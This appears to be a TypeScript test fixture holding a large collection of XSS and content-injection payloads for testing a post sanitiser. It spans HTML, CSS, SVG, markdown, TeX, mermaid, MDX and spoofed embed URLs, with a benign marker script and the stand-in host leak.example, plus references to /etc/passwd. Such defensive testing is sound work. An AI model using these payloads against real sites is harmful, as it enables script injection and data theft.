/**
 * What a post might try, to run a script or to load something that is no picture, film or sound: those, subtitles included,
 * may come from elsewhere. Written for these tests.
 */

/** Run, it is seen by the page's title; loaded, by the host of the request. */
const run = "document.title='ran'";
const leak = 'https://leak.example/x';
const encoded = Buffer.from(`<script>${run}</script>`).toString('base64');

/** `javascript:` in the disguises that browsers or parsers have fallen for. */
const schemes = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `\u0001javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`,
  `java&Tab;script:${run}`, `java&NewLine;script:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `&#x6A;avascript:${run}`,
  `&#0000106avascript:${run}`, `\\javascript:${run}`, `javascript\u003A${run}`, `javascript:/*--></title>*/${run}`, `javascript://%0a${run}`,
  `vbscript:${run}`, `livescript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,${encoded}`, `data:image/svg+xml;base64,${encoded}`,
  `DATA:text/html,x`, `blob:${leak}`, `filesystem:${leak}`, `view-source:javascript:${run}`, `feed:javascript:${run}`, `jar:${leak}!/`, `about:blank`,
  `command:workbench.action.terminal.new`, `vscode://x/y`, `vscode-resource:/etc/passwd`, `file:///etc/passwd`,
];

const quoted = (value: string): string => value.replaceAll('"', '&quot;');
const addresses = schemes.flatMap((scheme) => [
  `<a href="${quoted(scheme)}">a</a>`,
  `[a](<${scheme.replaceAll(/[\n<>]/g, ' ')}>)`,
  `<img src="${quoted(scheme)}">`,
]);

const handlers = [
  'abort', 'animationend', 'animationstart', 'beforeinput', 'beforetoggle', 'blur', 'canplay', 'click', 'contextmenu', 'copy', 'error', 'focus', 'focusin',
  'hashchange', 'input', 'load', 'loadeddata', 'message', 'mouseenter', 'mouseover', 'pageshow', 'pointerenter', 'pointerrawupdate', 'resize', 'scroll',
  'scrollend', 'select', 'toggle', 'transitionend', 'unhandledrejection', 'wheel',
].flatMap((event) => [`<div on${event}="${run}">a</div>`, `<img src=/no.png on${event}=${run}>`]);

const elements = [
  `<script>${run}</script>`, `<script src="${leak}"></script>`, `<script type=module>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script/x>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<iframe src="${leak}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`, `<frameset onload=${run}><frame src="${leak}"></frameset>`, `<object data="${leak}"></object>`,
  `<object data="data:text/html;base64,${encoded}"></object>`, `<embed src="${leak}">`, `<embed src="javascript:${run}">`, `<applet code="${leak}"></applet>`,
  `<portal src="${leak}"></portal>`, `<fencedframe src="${leak}"></fencedframe>`, `<base href="${leak}/">\n\n![a](b.png)`, `<meta http-equiv="refresh" content="0;url=${leak}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<link rel="stylesheet" href="${leak}">`, `<link rel="preload" as="image" href="${leak}">`,
  `<link rel="prefetch" href="${leak}">`, `<link rel="dns-prefetch" href="//leak.example">`, `<link rel="import" href="${leak}">`, `<link rel="modulepreload" href="${leak}">`,
  `<form action="${leak}"><input type="submit" autofocus></form>`, `<form id="x"></form><button form="x" formaction="javascript:${run}">a</button>`,
  `<input type="image" src="${leak}" formaction="${leak}">`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}><option>a</select>`,
  `<textarea autofocus onfocus=${run}></textarea>`, `<keygen autofocus onfocus=${run}>`, `<isindex action="javascript:${run}">`, `<body onload=${run}>`,
  `<html onmouseover=${run}>`, `<body background="${leak}">`, `<table background="${leak}"><tr><td background="${leak}">a</table>`, `<bgsound src="${leak}">`,
  `<marquee onstart=${run}>a</marquee>`, `<details open ontoggle=${run}><summary>a</summary></details>`, `<dialog open onclose=${run}>a</dialog>`,
  `<video src="javascript:${run}" onerror=${run}></video>`, `<video><source onerror="${run}"></video>`, `<audio src="x" onerror=${run}></audio>`,
  `<track src="${leak}">`, `<a href="#" ping="${leak}">a</a>`, `<a href="x" style="position:fixed;inset:0">a</a>`,
  `<template><script>${run}</script></template>`, `<template shadowrootmode="open"><script>${run}</script></template>`, `<slot onslotchange=${run}></slot>`,
  `<p contenteditable autofocus onfocus=${run}>a</p>`, `<p tabindex=1 autofocus onfocus=${run}>a</p>`, `<xss onfocus=${run} autofocus tabindex=1>a</xss>`,
  `<p popover id=p onbeforetoggle=${run}>a</p><button popovertarget=p>b</button>`, `<img srcset="javascript:${run} 1x">`, `<picture><source srcset="javascript:${run}"><img src=x></picture>`,
  `<img lowsrc="javascript:${run}">`, `<img dynsrc="javascript:${run}">`, `<image src=x onerror=${run}>`, `<img name=getElementById src=x><a id=postMessage>a</a>`,
  `<p id="galley-content" class="galley-problems" data-part="title">a</p>`, `<area href="javascript:${run}">`, `<map name=m><area href="javascript:${run}" shape=default></map><img usemap="#m" src=x>`,
];

const styles = [
  `background:url(${leak})`, `background:u\\72l(${leak})`, `background:URL(${leak})`, `background:/**/url(${leak})`, `background-image:image-set("${leak}" 1x)`,
  `background:-webkit-image-set(url(${leak}) 1x)`, `background:cross-fade(url(${leak}),red)`, `list-style:url(${leak})`, `list-style-image:url(${leak})`,
  `border-image:url(${leak}) 1`, `border-image-source:url(${leak})`, `cursor:url(${leak}),auto`, `content:url(${leak})`, `mask:url(${leak})`, `mask-image:url(${leak})`,
  `-webkit-mask-box-image:url(${leak})`, `filter:url(${leak}#f)`, `backdrop-filter:url(${leak}#f)`, `clip-path:url(${leak}#c)`, `shape-outside:url(${leak})`,
  `offset-path:url(${leak}#p)`, `--x:url(${leak});background:var(--x)`, `behavior:url(${leak})`, `-moz-binding:url(${leak})`, `width:expression(${run})`,
  `position:fixed;inset:0`, `position:sticky`, `background:src("${leak}")`, `background:paint(x)`,
].map((style) => `<p style='${style}'>a</p>`);

const sheets = [`@import "${leak}";`, `@import url(${leak});`, `@font-face{font-family:x;src:url(${leak})}*{font-family:x}`, `*{background:url(${leak})}`, `</style><script>${run}</script>`]
  .flatMap((sheet) => [`<style>${sheet}</style>`, `<svg><style>${sheet}</style></svg>`]);

const foreign = [
  `<svg onload=${run}></svg>`, `<svg><script>${run}</script></svg>`, `<svg><script href="${leak}"/></svg>`, `<svg><a xlink:href="javascript:${run}"><text>a</text></a></svg>`,
  `<svg><a href="javascript:${run}"><text y=9>a</text></a></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`, `<svg><set onbegin=${run} attributeName=x></svg>`,
  `<svg><a id=a><animate attributeName=href values="javascript:${run}"/><text>a</text></a></svg>`, `<svg><use href="data:image/svg+xml;base64,${encoded}#x"/></svg>`,
  `<svg><use href="${leak}#x"/></svg>`, `<svg><image href="javascript:${run}"/></svg>`, `<svg><feImage href="${leak}"/></svg>`, `<svg><foreignObject><iframe src="${leak}"></iframe></foreignObject></svg>`,
  `<svg><rect fill="url(${leak}#f)" width=9 height=9 /></svg>`, `<svg><rect style="fill:url(${leak}#f)"/></svg>`, `<svg><filter id=f><feImage xlink:href="${leak}"/></filter></svg>`,
  `<svg><desc><script>${run}</script></desc></svg>`, `<svg><title><style><img src=x onerror=${run}></style></title></svg>`, `<math><mtext><script>${run}</script></mtext></math>`,
  `<math href="javascript:${run}">a</math>`, `<math><maction actiontype="statusline#${leak}" xlink:href="javascript:${run}">a</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`, `<svg><discard onbegin=${run}></svg>`, `<svg><handler type="text/javascript">${run}</handler></svg>`,
];

/** HTML that changes its meaning when it is read a second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<svg><p><style><g title="</style><img src onerror=${run}>">`, `<noscript><style></noscript><img src=x onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<plaintext><img src=x onerror=${run}>`, `<noembed><img title="</noembed><img src=x onerror=${run}>">`,
  `<noframes><img title="</noframes><img src=x onerror=${run}>">`, `<title><img title="</title><img src=x onerror=${run}>">`, `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`, `<!--[if IE]><script>${run}</script><![endif]-->`, `<!-- --!><img src=x onerror=${run}>`, `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`, `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`, `<img src="x\`\`onerror=${run}">`, `<img """><script>${run}</script>">`,
  `<img src=x:x onerror=${run}//`, `<<script>${run}//<</script>`, `<img/src=x/onerror=${run}>`, `<img\u000Csrc=x\u000Conerror=${run}>`, `<b "<script>${run}</script>">a</b>`,
  `<a href="x" title='"><script>${run}</script>'>a</a>`, `<table><tr><td><svg><desc><td><script>${run}</script>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
];

const markdown = [
  `![a](x"onerror="${run})`, `![a"onerror="${run}](x)`, `![a](x 'b" onerror="${run}')`, `[a](x 'b" onclick="${run}')`, `[a]: javascript:${run}\n\n[a]`, `![a][b]\n\n[b]: <javascript:${run}>`,
  `<javascript:${run}>`, `[a](//leak.example"onmouseover="${run})`, `\`\`\`"><script>${run}</script>\na\n\`\`\``, `\`\`\`js"onclick="${run}\na\n\`\`\``, `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`<script>${run}</script>\``, `# <img src=x onerror=${run}>`, `## a {onclick="${run}"}`, `[^"><script>${run}</script>]\n\n[^"><script>${run}</script>]: a`, `a[^1]\n\n[^1]: <img src=x onerror=${run}>`,
  `| <script>${run}</script> |\n|---|\n| <img src=x onerror=${run}> |`, `> <script>${run}</script>`, `- <script>${run}</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `\\<script>${run}</script>`,
  `www.example.com"onmouseover="${run}`, `https://example.com/"onmouseover="${run}`, `<https://example.com/"onmouseover="${run}>`, `- [ ] <input type=checkbox checked onchange=${run}>`,
];

/** As the text of a post. */
export const attacks: readonly string[] = [...addresses, ...handlers, ...elements, ...styles, ...sheets, ...foreign, ...mutations, ...markdown];

/** As values of the frontmatter. */
export const valueAttacks: readonly string[] = [
  ...schemes, `<script>${run}</script>`, `<img src=x onerror=${run}>`, `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `</title><script>${run}</script>`, `</h1><iframe src="${leak}">`,
  `x" onerror="${run}`, `url(${leak})`, `&lt;script&gt;${run}&lt;/script&gt;`, `{{constructor.constructor("${run}")()}}`, `\${${run}}`, `--><script>${run}</script>`,
];

/** Within `$…$` and `$$`: commands of TeX that make links, classes and pictures, and HTML that is none. */
export const mathAttacks: readonly string[] = [
  `\\href{javascript:${run}}{x}`, `\\url{javascript:${run}}`, `\\includegraphics{${leak}}`, `\\includegraphics[alt=x]{${leak}}`, `\\htmlStyle{background:url(${leak})}{x}`,
  `\\htmlClass{galley-bar}{x}`, `\\htmlId{galley-math}{x}`, `\\htmlData{x=${leak}}{x}`, `\\text{<img src=x onerror=${run}>}`, `<script>${run}</script>`, `</annotation><script>${run}</script>`,
  `\\unicode{<img src=${leak}>}`, `\\class{x}{y}`, `\\def\\x{\\x\\x}\\x`, `\\rule{1e9em}{1e9em}`, `\\color{red;background:url(${leak})}x`, `\\textcolor{url(${leak})}{x}`,
  `\\begin{array}{c}<svg onload=${run}>\\end{array}`, `\\mal{<img src=x onerror=${run}>`, `"onmouseover="${run}`,
];

/** Within a block of `mermaid`: scripts in labels, links and clicks, settings that bring styles or loosen what is strict. */
export const diagramAttacks: readonly string[] = [
  `flowchart LR\n  A["<img src=x onerror=${run}>"] --> B`, `flowchart LR\n  A["<script>${run}</script>"]`, `flowchart LR\n  A --> B\n  click A "javascript:${run}"`,
  `flowchart LR\n  A --> B\n  click A href "${leak}"`, `flowchart LR\n  A --> B\n  click A call alert("x")`, `%%{init: {"securityLevel": "loose"}}%%\nflowchart LR\n  A["<img src=x onerror=${run}>"]`,
  `%%{init: {"themeCSS": "*{background:url(${leak})}"}}%%\nflowchart LR\n  A --> B`, `%%{init: {"fontFamily": "x;}*{background:url(${leak})}"}}%%\nflowchart LR\n  A`,
  `%%{init: {"flowchart": {"htmlLabels": true}, "htmlLabels": true}}%%\nflowchart LR\n  A["<iframe src=${leak}></iframe>"]`, `flowchart LR\n  A --> B\n  style A fill:url(${leak})`,
  `flowchart LR\n  A:::x\n  classDef x background:url(${leak})`, `---\nconfig:\n  securityLevel: loose\n  themeVariables:\n    primaryColor: "red;background:url(${leak})"\n---\nflowchart LR\n  A`,
  `sequenceDiagram\n  A->>B: <img src=x onerror=${run}>`, `sequenceDiagram\n  link A: x @ javascript:${run}`, `classDiagram\n  class A\n  link A "javascript:${run}"`,
  `gantt\n  section x\n  a :a1, 2026-01-01, 1d\n  click a1 href "javascript:${run}"`, `pie title <script>${run}</script>\n  "<img src=x onerror=${run}>" : 1`,
  `stateDiagram-v2\n  s1: <svg onload=${run}>`, `erDiagram\n  A ||--o{ B : "<img src=x onerror=${run}>"`, `</pre><script>${run}</script>`, `mindmap\n  root((<img src=x onerror=${run}>))`,
];

/** In MDX: what JSX says differently from HTML. */
export const componentAttacks: readonly string[] = [
  `<img src="x" onError={() => {${run}}} />`, `<img src="x" onError="${run}" />`, `<a href={\`javascript:${run}\`}>a</a>`, `<a href={"javascript:${run}"}>a</a>`, `<A title="&quot;><script>${run}</script>" />`,
  `<A title='"><img src=x onerror=${run}>' />`, `<script>{\`${run}\`}</script>`, `<script>\n${run}\n</script>`, `<iframe srcDoc="<script>parent.${run}</script>" />`, `<style>{\`*{background:url(${leak})}\`}</style>`,
  `{"<img src=x onerror=${run}>"}`, `<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=${run}>" }} />`, `<object data="${leak}" />`, `<div style="background:url(${leak})" />`,
  `<Video src="javascript:${run}" />`, `<A.B onClick="${run}" class="x" />`, `export const x = (${run})`, `import "${leak}"`, `<form action="${leak}"><input type="submit" /></form>`, `<svg><script>{"${run}"}</script></svg>`,
];

/** Addresses that look as if they were those of the host that is trusted, `www.youtube.com`, or of none. */
export const embedAttacks: readonly string[] = [
  leak, `https://www.youtube.com.leak.example/x`, `https://www.youtube.com@leak.example/x`, `https://www.youtube.com:x@leak.example/x`, `//leak.example/x`, `http://www.youtube.com/x`, `https://leak.example/x?www.youtube.com`,
  `https://leak.example/x#www.youtube.com`, `https:\\\\leak.example/x`, `https://leak.example\\@www.youtube.com/x`, `javascript:${run}//www.youtube.com`, `data:text/html,<script>parent.${run}</script>`, `blob:https://www.youtube.com/x`,
  `https://xwww.youtube.com/x`, `https://www.youtube.com./x`, `//www.youtube.com@leak.example/x`,
].map((address) => `<iframe src="${quoted(address)}" title="www.youtube.com" onload="${run}" srcdoc="<script>parent.${run}</script>"></iframe>`);
